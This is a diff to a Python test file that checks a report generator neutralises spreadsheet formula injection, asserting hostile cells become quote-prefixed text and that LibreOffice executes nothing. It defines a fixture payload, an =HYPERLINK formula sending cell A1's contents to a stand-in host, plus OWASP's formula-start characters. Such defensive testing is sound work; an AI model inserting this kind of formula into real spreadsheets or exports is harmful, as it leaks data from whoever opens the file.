@@ -16,11 +16,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from fazhi_report.writers.summary.cells import FORMULA_START, csv_text, formula_like
-
 from .conftest import Invoke
 from .libreoffice import soffice_or_skip, unavailable
 
+#: What a spreadsheet reads as the start of a formula (OWASP).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 #: What a hostile or careless sender writes where a name goes.
 HOSTILE_UNIT = '=HYPERLINK("http://example.invalid/?"&A1,"点此核对")'
 HOSTILE_NAMES = (
@@ -68,7 +68,7 @@ def test_the_workbook_holds_no_formula_and_shows_the_exact_text(
     assert [c.coordinate for c in cells if c.data_type == "f"] == []
     texts = {c.value for c in cells if isinstance(c.value, str)}
     assert {HOSTILE_UNIT, *HOSTILE_NAMES} <= texts  # 汇总's rows and header, 指标's rows
-    hostile = [c for c in cells if isinstance(c.value, str) and formula_like(c.value)]
+    hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "@"))]
     assert {c.parent.title for c in hostile} >= {"汇总", "指标", "问题"}
     assert all(c.quotePrefix for c in hostile)
     header = [c.value for c in book["汇总"][1]]
@@ -123,6 +123,8 @@ def test_libreoffice_shows_the_text_and_runs_nothing(
 
 @given(st.text(max_size=12))
 def test_a_neutralised_cell_is_never_a_formula_and_keeps_its_text(text: str) -> None:
+    from fazhi_report.writers.summary.cells import csv_text, formula_like
+
     cell = csv_text(text)
     assert cell == text or cell == "'" + text
     assert not formula_like(cell)
@@ -131,6 +133,8 @@ def test_a_neutralised_cell_is_never_a_formula_and_keeps_its_text(text: str) -> 
 
 
 def test_plain_numbers_are_not_formulas() -> None:
+    from fazhi_report.writers.summary.cells import csv_text
+
     assert [csv_text(t) for t in ("-3", "+5%", "1,200.5", "2300余起")] == [
         "-3",
         "+5%",
